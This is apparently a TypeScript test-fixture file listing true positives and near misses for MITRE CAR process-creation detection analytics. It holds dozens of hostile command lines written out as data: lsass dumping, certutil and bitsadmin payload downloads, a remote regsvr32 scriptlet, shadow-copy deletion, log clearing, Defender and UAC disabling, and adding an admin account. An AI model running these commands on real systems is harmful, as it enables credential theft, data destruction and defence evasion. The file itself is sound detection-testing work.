/**
 * True positives and near misses of the CAR 2019-2022 analytics that run on process creation
 * alone. Command lines come from CAR's unit tests and descriptions, Atomic Red Team, LOLBAS and
 * Oddvar Moe's ADS reference, as the analytics cite them.
 */
import { Case, CMD, proc, PS, SYS32 } from './car-2019-2022-samples';

const TEMP = 'C:\\Users\\alice\\AppData\\Local\\Temp';
const DISM_UNATTEND = `"C:\\Windows\\system32\\dism.exe" /online /norestart /apply-unattend:"${TEMP}\\ellocnak.xml"`;
const WUSA_QUIET = {
  Image: `${SYS32}\\wusa.exe`,
  CommandLine: `"C:\\Windows\\System32\\wusa.exe" ${TEMP}\\update.msu /quiet /extract:C:\\Windows\\System32\\migwiz`,
  CurrentDirectory: 'C:\\Windows\\system32\\',
  ParentImage: `${TEMP}\\akagi64.exe`,
  IntegrityLevel: 'High',
};
const EXCEL = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
const NET = `${SYS32}\\net.exe`;
const CERTUTIL = `${SYS32}\\certutil.exe`;
const BITSADMIN = `${SYS32}\\bitsadmin.exe`;
const W3WP = `${SYS32}\\inetsrv\\w3wp.exe`;

export const PROCESS_CASES: Case[] = [
  {
    id: 'CAR-2019-04-001',
    hits: [
      ['a High-integrity child of fodhelper.exe (UACME #33)', proc({ Image: CMD, CommandLine: 'cmd.exe', ParentImage: `${SYS32}\\fodhelper.exe`, IntegrityLevel: 'High' })],
      ['a quiet wusa.exe run from System32 (UACME #36)', proc(WUSA_QUIET)],
      ['cleanmgr /autoclean launched by another .exe (UACME #34)', proc({ Image: `${SYS32}\\cleanmgr.exe`, CommandLine: `"${TEMP}\\akagi64.exe" C:\\Windows\\system32\\cleanmgr.exe /autoclean /d C:`, IntegrityLevel: 'High' })],
      ['a child of dccw.exe (UACME #37)', proc({ Image: CMD, CommandLine: 'cmd.exe', ParentImage: `${SYS32}\\dccw.exe`, IntegrityLevel: 'High' })],
      ['a child of dism.exe run with an XML unattend file (UACME #23)', proc({ Image: CMD, CommandLine: 'cmd.exe', ParentImage: `${SYS32}\\dism.exe`, ParentCommandLine: DISM_UNATTEND, IntegrityLevel: 'High' })],
    ],
    misses: [
      ['the child of fodhelper.exe at Medium integrity', proc({ Image: CMD, CommandLine: 'cmd.exe', ParentImage: `${SYS32}\\fodhelper.exe`, IntegrityLevel: 'Medium' })],
      ["dism.exe's own dismhost.exe", proc({ Image: `${TEMP}\\4D1B3F0C-0A8E-4F5B-9C7D-1E2F3A4B5C6D\\dismhost.exe`, CommandLine: 'dismhost.exe {4D1B3F0C}', ParentImage: `${SYS32}\\dism.exe`, ParentCommandLine: DISM_UNATTEND, IntegrityLevel: 'High' })],
      ["dccw.exe's own cttune.exe", proc({ Image: `${SYS32}\\cttune.exe`, CommandLine: 'cttune.exe', ParentImage: `${SYS32}\\dccw.exe`, IntegrityLevel: 'High' })],
      ['the quiet wusa.exe started from explorer.exe', proc({ ...WUSA_QUIET, ParentImage: 'C:\\Windows\\explorer.exe' })],
    ],
  },
  {
    id: 'CAR-2019-04-002',
    hits: [['cmd.exe started by regsvr32.exe', proc({ Image: CMD, CommandLine: 'cmd.exe /c whoami', ParentImage: `${SYS32}\\regsvr32.exe` })]],
    misses: [['regsvr32.exe starting its 32-bit self', proc({ Image: 'C:\\Windows\\SysWOW64\\regsvr32.exe', CommandLine: 'regsvr32.exe /s x.dll', ParentImage: `${SYS32}\\regsvr32.exe` })]],
  },
  {
    id: 'CAR-2019-04-003',
    hits: [['the Atomic Red Team remote scriptlet', proc({ Image: `${SYS32}\\regsvr32.exe`, CommandLine: 'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll' })]],
    misses: [['regsvr32.exe registering another DLL', proc({ Image: `${SYS32}\\regsvr32.exe`, CommandLine: 'regsvr32.exe /s "C:\\Program Files\\Vendor\\component.dll"' })]],
  },
  {
    id: 'CAR-2019-07-002',
    hits: [['procdump64.exe -ma lsass.exe', proc({ Image: 'C:\\Tools\\Sysinternals\\procdump64.exe', CommandLine: 'procdump64.exe -accepteula -ma lsass.exe lsass_dump' })]],
    misses: [
      ['procdump64.exe dumping another process', proc({ Image: 'C:\\Tools\\Sysinternals\\procdump64.exe', CommandLine: 'procdump64.exe -accepteula -ma w3wp.exe w3wp_dump' })],
      ['another tool naming lsass', proc({ Image: 'C:\\Tools\\dumper.exe', CommandLine: 'dumper.exe lsass.exe' })],
    ],
  },
  {
    id: 'CAR-2020-08-001',
    hits: [
      ['PowerShell Invoke-CimMethod on a stream', proc({ Image: PS, CommandLine: 'powershell.exe Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine = "C:\\ads\\file.txt:evil.exe"}' })],
      ['wmic process call create on a stream', proc({ Image: `${SYS32}\\wbem\\WMIC.exe`, CommandLine: 'wmic process call create "c:\\ads\\file.txt:program.exe"' })],
      ['rundll32.exe running a DLL stream', proc({ Image: `${SYS32}\\rundll32.exe`, CommandLine: 'rundll32.exe "C:\\ads\\file.txt:ADSDLL.dll",DllMain' })],
      ['wscript.exe running a script stream', proc({ Image: `${SYS32}\\wscript.exe`, CommandLine: 'wscript.exe c:\\ads\\file.txt:script.vbs' })],
    ],
    misses: [
      ['wmic process call create on a plain file', proc({ Image: `${SYS32}\\wbem\\WMIC.exe`, CommandLine: 'wmic process call create "C:\\Windows\\System32\\notepad.exe"' })],
      ['rundll32.exe running a plain DLL', proc({ Image: `${SYS32}\\rundll32.exe`, CommandLine: 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl' })],
      ['wscript.exe running a plain script', proc({ Image: `${SYS32}\\wscript.exe`, CommandLine: 'wscript.exe C:\\Scripts\\logon.vbs' })],
      ['a stream run by a tool this analytic does not cover', proc({ Image: `${SYS32}\\notepad.exe`, CommandLine: 'notepad.exe c:\\ads\\file.txt:script.vbs' })],
    ],
  },
  {
    id: 'CAR-2020-08-002',
    hits: [
      ['cmd.exe reading commands from a stream', proc({ Image: CMD, CommandLine: 'cmd.exe - < fakefile.doc:reg32.bat' })],
      ['control.exe loading a DLL stream', proc({ Image: `${SYS32}\\control.exe`, CommandLine: 'control.exe c:\\windows\\tasks\\zzz:notepad_lnk.dll' })],
      ['ftp -s: with a stream', proc({ Image: `${SYS32}\\ftp.exe`, CommandLine: 'ftp -s:fakefile.txt:aaaa.txt' })],
      ['mavinject /INJECTRUNNING a stream', proc({ Image: `${SYS32}\\mavinject.exe`, CommandLine: 'mavinject.exe 4172 /INJECTRUNNING c:\\ads\\file.txt:evil.dll' })],
      ['bitsadmin /SetNotifyCmdLine on a stream', proc({ Image: BITSADMIN, CommandLine: 'bitsadmin /SetNotifyCmdLine myfile c:\\ADS\\1.txt:cmd.exe NULL' })],
    ],
    misses: [
      ['cmd.exe reading commands from a plain file', proc({ Image: CMD, CommandLine: 'cmd.exe - < C:\\Scripts\\setup.bat' })],
      ['control.exe opening a .cpl', proc({ Image: `${SYS32}\\control.exe`, CommandLine: 'control.exe C:\\Windows\\System32\\desk.cpl' })],
      ['ftp -s: with a plain file', proc({ Image: `${SYS32}\\ftp.exe`, CommandLine: 'ftp -s:C:\\Scripts\\ftp.txt' })],
    ],
  },
  {
    id: 'CAR-2020-09-003',
    hits: [['fltmc unload SysmonDrv', proc({ Image: `${SYS32}\\fltMC.exe`, CommandLine: 'fltmc.exe unload SysmonDrv' })]],
    misses: [['fltmc listing filters', proc({ Image: `${SYS32}\\fltMC.exe`, CommandLine: 'fltmc.exe filters' })]],
  },
  {
    id: 'CAR-2020-09-004',
    hits: [
      ['reg query HKLM for REG_SZ passwords', proc({ Image: `${SYS32}\\reg.exe`, CommandLine: 'reg  query HKLM /f password /t REG_SZ /s' })],
      ['reg query HKCU from its full path', proc({ Image: `${SYS32}\\reg.exe`, CommandLine: '"C:\\Windows\\system32\\reg.exe" query HKCU /f password /t REG_SZ /s' })],
      ['PowerSploit Get-CachedGPPPassword', proc({ Image: PS, CommandLine: 'powershell.exe -exec bypass -c "Import-Module .\\PowerSploit.psd1; Get-CachedGPPPassword"' })],
    ],
    misses: [['reg query for REG_DWORD values', proc({ Image: `${SYS32}\\reg.exe`, CommandLine: 'reg  query HKLM /f password /t REG_DWORD /s' })]],
  },
  {
    id: 'CAR-2020-11-002',
    hits: [
      ['tshark capturing', proc({ Image: 'C:\\Program Files\\Wireshark\\tshark.exe', CommandLine: 'tshark.exe -i 1 -w C:\\Temp\\cap.pcapng', ParentImage: CMD })],
      ['logman tracing TCP/IP from cmd.exe', proc({ Image: `${SYS32}\\logman.exe`, CommandLine: 'logman start trace -p Microsoft-Windows-TCPIP -o C:\\Temp\\net.etl -ets', ParentImage: CMD })],
    ],
    misses: [
      ['logman from the Event Reporting agent', proc({ Image: `${SYS32}\\logman.exe`, CommandLine: 'logman query', ParentImage: 'C:\\Program Files\\Windows Event Reporting\\Core\\EventReporting.AgentService.exe' })],
      ['logman with no known parent', proc({ Image: `${SYS32}\\logman.exe`, CommandLine: 'logman query' })],
      ['logman with parent "?"', proc({ Image: `${SYS32}\\logman.exe`, CommandLine: 'logman query', ParentImage: '?' })],
      ['the Wireshark GUI, which CAR does not list', proc({ Image: 'C:\\Program Files\\Wireshark\\Wireshark.exe', CommandLine: 'Wireshark.exe', ParentImage: 'C:\\Windows\\explorer.exe' })],
    ],
  },
  {
    id: 'CAR-2020-11-003',
    hits: [
      ['mavinject.exe', proc({ Image: `${SYS32}\\mavinject.exe`, CommandLine: 'mavinject.exe 4172 /INJECTRUNNING C:\\Users\\Public\\evil.dll' })],
      ['a renamed mavinject by its /INJECTRUNNING argument', proc({ Image: 'C:\\Users\\Public\\svc.exe', CommandLine: 'svc.exe 4172 /INJECTRUNNING C:\\Users\\Public\\evil.dll' })],
    ],
    misses: [['the renamed copy without /INJECTRUNNING', proc({ Image: 'C:\\Users\\Public\\svc.exe', CommandLine: 'svc.exe 4172 C:\\Users\\Public\\evil.dll' })]],
  },
  {
    id: 'CAR-2020-11-004',
    hits: [
      ['lsass.exe started by cmd.exe', proc({ Image: `${SYS32}\\lsass.exe`, CommandLine: 'lsass.exe', ParentImage: CMD })],
      ['spoolsv.exe started by explorer.exe', proc({ Image: `${SYS32}\\spoolsv.exe`, CommandLine: 'spoolsv.exe', ParentImage: 'C:\\Windows\\explorer.exe' })],
      ['taskhostw.exe started by a user program', proc({ Image: `${SYS32}\\taskhostw.exe`, CommandLine: 'taskhostw.exe', ParentImage: 'C:\\Users\\Public\\loader.exe' })],
    ],
    misses: [
      ['lsass.exe started by wininit.exe', proc({ Image: `${SYS32}\\lsass.exe`, CommandLine: 'lsass.exe', ParentImage: `${SYS32}\\wininit.exe` })],
      ['lsass.exe with no parent recorded', proc({ Image: `${SYS32}\\lsass.exe`, CommandLine: 'lsass.exe' })],
      ['smss.exe started by System', proc({ Image: `${SYS32}\\smss.exe`, CommandLine: '\\SystemRoot\\System32\\smss.exe', ParentImage: 'System' })],
      ['taskhostw.exe started by svchost.exe', proc({ Image: `${SYS32}\\taskhostw.exe`, CommandLine: 'taskhostw.exe', ParentImage: `${SYS32}\\svchost.exe` })],
    ],
  },
  {
    id: 'CAR-2020-11-005',
    hits: [
      ['SaveNothing with CAR\'s en dash', proc({ Image: PS, CommandLine: 'powershell.exe -c "Set-PSReadlineOption \u2013HistorySaveStyle SaveNothing"' })],
      ['SaveNothing with a hyphen', proc({ Image: PS, CommandLine: 'powershell.exe -c "Set-PSReadlineOption -HistorySaveStyle SaveNothing"' })],
      ['Remove-Item of the history path', proc({ Image: PS, CommandLine: 'powershell.exe -c "Remove-Item (Get-PSReadlineOption).HistorySavePath"' })],
      ['cmd /c del of the default history file', proc({ Image: CMD, CommandLine: 'cmd.exe /c del C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt' })],
    ],
    misses: [
      ['another history save style', proc({ Image: PS, CommandLine: 'powershell.exe -c "Set-PSReadlineOption -HistorySaveStyle SaveIncrementally"' })],
      ['reading the history', proc({ Image: PS, CommandLine: 'powershell.exe -c "Get-Content (Get-PSReadlineOption).HistorySavePath"' })],
    ],
  },
  {
    id: 'CAR-2020-11-006',
    hits: [
      ['net localgroup administrators', proc({ Image: NET, CommandLine: 'net localgroup administrators' })],
      ['net user /domain', proc({ Image: NET, CommandLine: 'net user /domain' })],
      ['Get-LocalGroupMember in PowerShell', proc({ Image: PS, CommandLine: 'powershell.exe -c Get-LocalGroupMember Administrators' })],
    ],
    misses: [['net use', proc({ Image: NET, CommandLine: 'net use Z: \\\\fileserver\\share' })]],
  },
  {
    id: 'CAR-2020-11-007',
    hits: [
      ['net use /delete', proc({ Image: NET, CommandLine: 'net use Z: /delete' })],
      ['Remove-SmbShare', proc({ Image: PS, CommandLine: 'powershell.exe -c "Remove-SmbShare -Name Data -Force"' })],
    ],
    misses: [['net use mapping a share', proc({ Image: NET, CommandLine: 'net use Z: \\\\fileserver\\data' })]],
  },
  {
    id: 'CAR-2020-11-008',
    hits: [
      ['.NET Framework MSBuild.exe from cmd.exe', proc({ Image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe', CommandLine: 'MSBuild.exe C:\\Users\\Public\\evil.csproj', ParentImage: CMD })],
      ['msxsl.exe in AppData\\Roaming\\Microsoft', proc({ Image: 'C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\msxsl.exe', CommandLine: 'msxsl.exe customers.xml script.xsl', ParentImage: CMD })],
    ],
    misses: [
      ['MSBuild.exe started by Visual Studio', proc({ Image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe', CommandLine: 'MSBuild.exe app.sln', ParentImage: 'C:\\Program Files (x86)\\Microsoft Visual Studio\\2019\\Community\\Common7\\IDE\\devenv.exe' })],
      ['MSBuild.exe outside the paths CAR lists', proc({ Image: 'C:\\BuildTools\\MSBuild\\Current\\Bin\\MSBuild.exe', CommandLine: 'MSBuild.exe app.sln', ParentImage: CMD })],
    ],
  },
  {
    id: 'CAR-2020-11-009',
    hits: [['hh.exe opening a .chm', proc({ Image: 'C:\\Windows\\hh.exe', CommandLine: '"C:\\Windows\\hh.exe" C:\\Users\\alice\\Downloads\\invoice.chm', ParentImage: 'C:\\Windows\\explorer.exe' })]],
    misses: [['the HTML Help compiler hhc.exe', proc({ Image: 'C:\\Program Files (x86)\\HTML Help Workshop\\hhc.exe', CommandLine: 'hhc.exe project.hhp', ParentImage: CMD })]],
  },
  {
    id: 'CAR-2021-01-003',
    hits: [['wevtutil cl Security', proc({ Image: `${SYS32}\\wevtutil.exe`, CommandLine: 'wevtutil.exe cl Security' })]],
    misses: [
      ['wevtutil querying Security', proc({ Image: `${SYS32}\\wevtutil.exe`, CommandLine: 'wevtutil.exe qe Security /c:5 /f:text' })],
      ['wevtutil clearing a log CAR does not name', proc({ Image: `${SYS32}\\wevtutil.exe`, CommandLine: 'wevtutil.exe cl Microsoft-Windows-PowerShell/Operational' })],
    ],
  },
  {
    id: 'CAR-2021-01-004',
    hits: [['cmd.exe started by the print spooler', proc({ Image: CMD, CommandLine: 'cmd.exe /c whoami', ParentImage: `${SYS32}\\spoolsv.exe` })]],
    misses: [
      ['conhost.exe started by cmd.exe (every console window)', proc({ Image: `${SYS32}\\conhost.exe`, CommandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', ParentImage: CMD })],
      ['cmd.exe started by explorer.exe', proc({ Image: CMD, CommandLine: 'cmd.exe', ParentImage: 'C:\\Windows\\explorer.exe' })],
    ],
  },
  {
    id: 'CAR-2021-01-006',
    hits: [['cmd.exe started by Excel', proc({ Image: CMD, CommandLine: 'cmd.exe /c calc.exe', ParentImage: EXCEL })]],
    misses: [['cmd.exe started by PowerPoint', proc({ Image: CMD, CommandLine: 'cmd.exe /c calc.exe', ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE' })]],
  },
  {
    id: 'CAR-2021-01-007',
    hits: [
      ['sc stop WinDefend', proc({ Image: `${SYS32}\\sc.exe`, CommandLine: 'sc  stop WinDefend' })],
      ['sc.exe config WinDefend from its full path', proc({ Image: `${SYS32}\\sc.exe`, CommandLine: '"C:\\Windows\\system32\\sc.exe" config WinDefend start= disabled' })],
    ],
    misses: [
      ['sc stop of another service', proc({ Image: `${SYS32}\\sc.exe`, CommandLine: 'sc  stop Spooler' })],
      ['sc with a verb CAR does not list', proc({ Image: `${SYS32}\\sc.exe`, CommandLine: 'sc  qdescription WinDefend' })],
    ],
  },
  {
    id: 'CAR-2021-01-008',
    hits: [['reg.exe setting EnableLUA to 0 from cmd.exe', proc({ Image: `${SYS32}\\reg.exe`, CommandLine: 'reg.exe ADD HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f', ParentImage: CMD })]],
    misses: [['reg.exe setting EnableLUA to 1', proc({ Image: `${SYS32}\\reg.exe`, CommandLine: 'reg.exe ADD HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 1 /f', ParentImage: CMD })]],
  },
  {
    id: 'CAR-2021-01-009',
    hits: [
      ['vssadmin delete shadows (CAR\'s unit test)', proc({ Image: `${SYS32}\\vssadmin.exe`, CommandLine: 'vssadmin.exe delete shadows /all /quiet' })],
      ['wmic shadowcopy delete (CAR\'s unit test)', proc({ Image: `${SYS32}\\wbem\\WMIC.exe`, CommandLine: 'wmic shadowcopy delete' })],
      ['vssadmin resize shadowstorage (CAR\'s unit test)', proc({ Image: `${SYS32}\\vssadmin.exe`, CommandLine: 'vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB' })],
    ],
    misses: [
      ['vssadmin list shadows', proc({ Image: `${SYS32}\\vssadmin.exe`, CommandLine: 'vssadmin.exe list shadows' })],
      ['wmic shadowcopy list', proc({ Image: `${SYS32}\\wbem\\WMIC.exe`, CommandLine: 'wmic shadowcopy list brief' })],
    ],
  },
  {
    id: 'CAR-2021-02-001',
    hits: [
      ['whoami.exe under IIS', proc({ Image: `${SYS32}\\whoami.exe`, CommandLine: 'whoami /all', ParentImage: W3WP })],
      ['powershell.exe under Tomcat', proc({ Image: PS, CommandLine: 'powershell.exe -c ipconfig', ParentImage: 'C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe' })],
    ],
    misses: [
      ['csc.exe under IIS (ASP.NET compiling a page)', proc({ Image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', CommandLine: 'csc.exe /noconfig @x.cmdline', ParentImage: W3WP })],
      ['whoami.exe under explorer.exe', proc({ Image: `${SYS32}\\whoami.exe`, CommandLine: 'whoami /all', ParentImage: 'C:\\Windows\\explorer.exe' })],
    ],
  },
  {
    id: 'CAR-2021-02-002',
    hits: [
      ['Meterpreter: services.exe starting cmd.exe to echo into a pipe (CAR\'s unit test)', proc({ Image: CMD, CommandLine: 'cmd.exe /c echo ba80ae80df9 > \\\\.\\pipe\\66bee3', ParentImage: `${SYS32}\\services.exe` })],
      ['Cobalt Strike: rundll32.exe ,a /p: (CAR\'s unit test)', proc({ Image: `${SYS32}\\rundll32.exe`, CommandLine: 'rundll32.exe C:\\Users\\user\\AppData\\Local\\Temp\\fvxens.dll,a /p:fvxens' })],
      ['Empire: %COMSPEC% echoing into a pipe (CAR\'s unit test)', proc({ Image: CMD, CommandLine: 'cmd.exe /C start %COMSPEC% /C `"timeout /t 3 >nul&&echo TestSVC > \\\\.\\pipe\\TestSVC', ParentImage: `${SYS32}\\services.exe` })],
    ],
    misses: [
      ['cmd.exe echoing into a file', proc({ Image: CMD, CommandLine: 'cmd.exe /c echo hello > C:\\Temp\\out.txt', ParentImage: `${SYS32}\\services.exe` })],
      ['rundll32.exe with another entry point', proc({ Image: `${SYS32}\\rundll32.exe`, CommandLine: 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL' })],
    ],
  },
  {
    id: 'CAR-2021-05-001',
    hits: [
      ['certutil -addstore root', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe -addstore root C:\\Users\\Public\\evil.cer' })],
      ['certutil /addstore', proc({ Image: CERTUTIL, CommandLine: 'certutil /addstore -f root C:\\Users\\Public\\evil.cer' })],
    ],
    misses: [['certutil -store root', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe -store root' })]],
  },
  {
    id: 'CAR-2021-05-003',
    hits: [['bcdedit recoveryenabled no', proc({ Image: `${SYS32}\\bcdedit.exe`, CommandLine: 'bcdedit.exe /set {default} recoveryenabled no' })]],
    misses: [['bcdedit /enum', proc({ Image: `${SYS32}\\bcdedit.exe`, CommandLine: 'bcdedit.exe /enum {default}' })]],
  },
  {
    id: 'CAR-2021-05-004',
    hits: [
      ['bitsadmin /create', proc({ Image: BITSADMIN, CommandLine: 'bitsadmin.exe /create backdoor' })],
      ['bitsadmin /SetNotifyCmdLine', proc({ Image: BITSADMIN, CommandLine: 'bitsadmin.exe /SetNotifyCmdLine backdoor C:\\Users\\Public\\evil.exe NULL' })],
    ],
    misses: [['bitsadmin /list', proc({ Image: BITSADMIN, CommandLine: 'bitsadmin.exe /list /allusers /verbose' })]],
  },
  {
    id: 'CAR-2021-05-005',
    hits: [['bitsadmin /transfer', proc({ Image: BITSADMIN, CommandLine: 'bitsadmin.exe /transfer qcxjb7 /Priority HIGH https://example.com/payload.exe C:\\Users\\Public\\payload.exe' })]],
    misses: [['bitsadmin /list', proc({ Image: BITSADMIN, CommandLine: 'bitsadmin.exe /list /allusers /verbose' })]],
  },
  {
    id: 'CAR-2021-05-006',
    hits: [['certutil -urlcache -split -f', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe -urlcache -split -f https://example.com/a.exe a.exe' })]],
    misses: [['certutil -urlcache without -split', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe -urlcache -f https://example.com/a.exe a.exe' })]],
  },
  {
    id: 'CAR-2021-05-007',
    hits: [['certutil -verifyctl -split -f', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe -verifyctl -split -f https://example.com/payload.txt' })]],
    misses: [['certutil -verifyctl without -split', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe -verifyctl -f https://example.com/payload.txt' })]],
  },
  {
    id: 'CAR-2021-05-008',
    hits: [
      ['certutil -exportPFX', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe -exportPFX -p Secret1 My 2b3c4d5e C:\\Users\\Public\\adfs.pfx' })],
      ['certutil /exportPFX', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe /exportPFX My 2b3c4d5e C:\\Users\\Public\\adfs.pfx' })],
    ],
    misses: [['certutil -importPFX', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe -importPFX C:\\Users\\Public\\adfs.pfx' })]],
  },
  {
    id: 'CAR-2021-05-009',
    hits: [['certutil -decode', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe -decode C:\\Users\\Public\\p.b64 C:\\Users\\Public\\p.exe' })]],
    misses: [['certutil -encode', proc({ Image: CERTUTIL, CommandLine: 'certutil.exe -encode C:\\Users\\Public\\p.exe C:\\Users\\Public\\p.b64' })]],
  },
  {
    id: 'CAR-2021-05-010',
    hits: [
      ['net user /add', proc({ Image: NET, CommandLine: 'net user attacker Secret1 /add' })],
      ['net1 localgroup administrators /add', proc({ Image: `${SYS32}\\net1.exe`, CommandLine: 'C:\\Windows\\system32\\net1 localgroup administrators attacker /add' })],
    ],
    misses: [['net use', proc({ Image: NET, CommandLine: 'net use Z: \\\\fileserver\\share' })]],
  },
  {
    id: 'CAR-2021-12-001',
    hits: [
      ['a task running calc.exe (CAR\'s unit test)', proc({ Image: `${SYS32}\\schtasks.exe`, CommandLine: 'SCHTASKS /CREATE /SC MINUTE /MO 1 /TN "CALC_TASK" /TR "C:\\Windows\\System32\\calc.exe"' })],
      ['a task running cmd /c ping (CAR\'s unit test)', proc({ Image: `${SYS32}\\schtasks.exe`, CommandLine: 'SCHTASKS /CREATE /SC MINUTE /MO 1 /TN "PING_TASK" /TR "cmd /c ping 8.8.8.8"' })],
    ],
    misses: [
      ['a task with none of the suspicious words', proc({ Image: `${SYS32}\\schtasks.exe`, CommandLine: 'SCHTASKS /CREATE /SC DAILY /TN "Backup" /TR "D:\\backup\\nightly"' })],
      ['a task query', proc({ Image: `${SYS32}\\schtasks.exe`, CommandLine: 'SCHTASKS /QUERY /TN "CALC_TASK" /V' })],
    ],
  },
];
